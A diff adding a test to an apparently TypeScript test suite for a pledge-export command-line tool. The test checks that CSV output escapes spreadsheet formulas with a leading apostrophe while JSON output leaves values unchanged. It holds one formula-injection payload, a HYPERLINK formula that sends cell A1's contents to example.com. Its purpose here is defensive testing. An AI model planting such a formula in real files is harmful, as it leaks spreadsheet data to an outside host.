@@ -122,6 +122,25 @@ describe('covenant export, writing and refusing', () => {
     expect(readdirSync(dir)).toEqual(['data']);
   });
 
+  test('CSV text that a spreadsheet would run as a formula starts with an apostrophe; figures and JSON stay as written', async () => {
+    const file = join(dir, 'data/2021/departments/dwp.yaml');
+    writeFileSync(file, readFileSync(file, 'utf8')
+      .replace('name: Department for Work and Pensions', 'name: \'=HYPERLINK("http://example.com/?"&A1,"Click")\'')
+      .replace('Keep the marker running.', '- keep the marker running\n      - @ each office')
+      .replace('value: 3162', 'value: -5')
+      .replace("DWP will introduce a 'marker'", "+DWP will introduce a 'marker'"));
+    const result = await run(['export', '2021', '--format', 'csv'], { cwd: dir });
+    expect(result.stderr).toBe('');
+    const marker = readCsv(result.stdout.replace(/^\ufeff/, '')).find((r) => r[2] === 'care-leaver-marker')!;
+    expect(marker[1]).toBe('\'=HYPERLINK("http://example.com/?"&A1,"Click")');
+    expect(marker[6]).toBe("'+DWP will introduce a 'marker' to routinely identify care leavers on its information database.");
+    expect(marker[7]).toMatch(/^Since October 2020/);
+    expect(marker[8]).toBe("'- keep the marker running\n- @ each office");
+    expect(marker[10]).toBe('-5');
+    const json = JSON.parse((await run(['export', '2021', '--format', 'json'], { cwd: dir })).stdout) as { pledge: string; department_name: string }[];
+    expect(json.find((r) => r.pledge === 'care-leaver-marker')!.department_name).toBe('=HYPERLINK("http://example.com/?"&A1,"Click")');
+  });
+
   test('--format is required and checked; a missing year exits 1', async () => {
     expect((await run(['export', '2021'], { cwd: dir })).code).toBe(2);
     expect((await run(['export', '2021', '--format', 'xlsx'], { cwd: dir })).code).toBe(2);
